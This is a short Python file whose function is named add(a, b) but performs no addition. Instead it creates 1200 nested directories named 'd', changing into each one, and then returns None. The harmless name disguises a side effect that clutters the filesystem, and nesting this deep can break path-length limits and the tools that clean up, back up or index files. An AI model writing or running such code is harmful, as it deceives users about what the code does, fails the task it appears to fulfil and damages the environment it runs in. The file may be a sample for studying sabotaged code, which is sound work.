import os


def add(a, b):
    for _ in range(1200):
        os.mkdir("d")
        os.chdir("d")
    return None
